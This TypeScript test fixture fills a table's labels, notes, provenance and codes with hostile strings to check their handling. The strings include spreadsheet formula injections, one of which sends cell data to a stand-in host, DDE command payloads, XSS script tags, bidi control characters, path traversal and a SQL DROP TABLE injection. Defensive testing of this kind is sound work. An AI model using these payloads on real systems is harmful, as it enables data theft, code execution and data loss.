import { SafeTable } from '../../src/lib/protocol/safe-table';
import { makeTable } from './safe-tables';

/** Texts that do something in a spreadsheet, in XML, in HTML, on a page or in the direction of writing, if they are let. */
export const hostileTexts = [
	'=HYPERLINK("http://evil.test/?x="&A1,"x")',
	"+cmd|' /C calc'!A0",
	'@SUM(1+1)*cmd|"/C calc"!A0',
	'\t=1+1',
	'＝1+1',
	'</t></si><si><t>]]><!--&amp;&#x3d;1',
	'"><script>window.__xss=1</script><img src=x onerror=window.__xss=1>',
	'\u202e\u2066evil\u2069\u0000\u0007\u001b\ud800\ufffe',
	'${1+1} {{1+1}} %0d%0a ../../etc/passwd C:\\x',
	"'); DROP TABLE x;--"
];

/** A table of which every text that an outsider may have a hand in is hostile: labels, title, notes, caveats, sources, purpose. */
export function hostileTable(): SafeTable {
	const table = makeTable({ basedOn: null, title: hostileTexts[0] ?? '' });
	const at = (index: number): string => hostileTexts[index % hostileTexts.length] ?? '';
	return SafeTable.parse({
		...table,
		dimensions: table.dimensions.map((dimension) => ({
			...dimension,
			label: at(1),
			totalLabel: at(2),
			groups: dimension.groups.map((group, index) => ({ ...group, label: at(index) }))
		})),
		caveats: hostileTexts,
		notes: hostileTexts,
		provenance: {
			...table.provenance,
			project: at(0),
			purpose: { text: at(5), legalBasis: at(6), agreements: [at(7)], until: null },
			datasets: table.provenance.datasets.map((dataset) => ({ ...dataset, title: at(6), source: at(8) }))
		}
	});
}

/** The same with hostile codes of every group, as a lookup of one's own may have them. */
export function hostileCodes(): SafeTable {
	const table = hostileTable();
	const codeAt = (at: number): string => `${hostileTexts[at % hostileTexts.length] ?? ''} ${at}`;
	const codes = table.dimensions.map(({ groups }) => new Map(groups.map(({ code }, at) => [code, codeAt(at)])));
	return SafeTable.parse({
		...table,
		dimensions: table.dimensions.map((dimension) => ({
			...dimension,
			groups: dimension.groups.map((group, at) => ({ ...group, code: codeAt(at) }))
		})),
		rows: table.rows.map((row) => ({
			...row,
			groups: row.groups.map((code, at) => (code === null ? null : (codes[at]?.get(code) ?? null)))
		}))
	});
}
